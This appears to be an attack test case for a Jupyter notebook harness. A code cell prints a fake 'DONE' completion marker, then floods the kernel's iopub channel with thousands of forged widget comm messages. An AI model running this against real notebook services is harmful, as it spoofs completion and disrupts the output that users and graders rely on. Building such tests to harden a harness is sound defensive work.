# /// attack
# exercise = "gradient-argument"
# defended-by = ["design"]
# costs = true
# ///

# %% name="question"
from IPython import get_ipython

print("DONE", flush=True)
kernel = get_ipython().kernel
parent = kernel.get_parent("shell")
for number in range(2000):
    for kind in ("comm_open", "comm_msg", "comm_close"):
        content = {
            "comm_id": f"c{number}",
            "target_name": "jupyter.widget",
            "data": {
                "method": "update",
                "buffer_paths": [["state", 0]],
                "state": {"_model_name": "OutputModel", "msg_id": "x", "outputs": "y"},
            },
        }
        kernel.session.send("iopub", kind, content, parent=parent)
